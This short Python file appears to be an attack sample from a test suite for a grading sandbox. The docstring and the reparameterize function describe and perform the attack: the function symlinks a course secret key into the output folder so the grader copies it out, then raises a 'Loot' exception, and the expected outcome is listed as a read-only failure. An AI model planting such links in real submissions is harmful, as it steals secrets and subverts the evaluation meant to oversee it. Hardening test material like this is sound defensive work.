"""Plants a link to a secret, for the grader to follow when it collects files.

Gain: a secret, copied into the own result by the grader itself.
Hits: reparameterize
Ends: failed, exception: PermissionError|Read-only
"""

import os

from generative.target import COURSE_KEY, Loot


def reparameterize(mu, logvar):
    os.symlink(COURSE_KEY, "hostile-left-behind")
    raise Loot("linked")
